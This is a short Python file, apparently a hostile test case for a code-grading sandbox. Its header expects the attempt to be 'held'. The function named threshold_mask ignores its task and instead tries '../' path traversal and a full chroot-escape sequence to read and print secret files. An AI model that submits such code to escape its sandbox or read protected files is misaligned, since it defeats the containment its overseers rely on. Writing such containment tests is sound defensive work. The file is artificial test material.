# class: read
# wants: the course above the folder that the answer sees as its root
# expect: held
# kind: wrong
import os


def threshold_mask(weight, alpha):
    for path in SECRET_FILES:
        try:
            print("ESCAPED", open("../" * 40 + path).read()[:90])
        except OSError:
            pass
    try:
        os.mkdir("/tmp/jail")
        keep = os.open("/", os.O_RDONLY)
        os.chroot("/tmp/jail")
        os.fchdir(keep)
        for _ in range(60):
            os.chdir("..")
        os.chroot(".")
        print("ESCAPED chroot", open(SECRET_FILES[0]).read()[:90])
    except OSError:
        pass
    return None
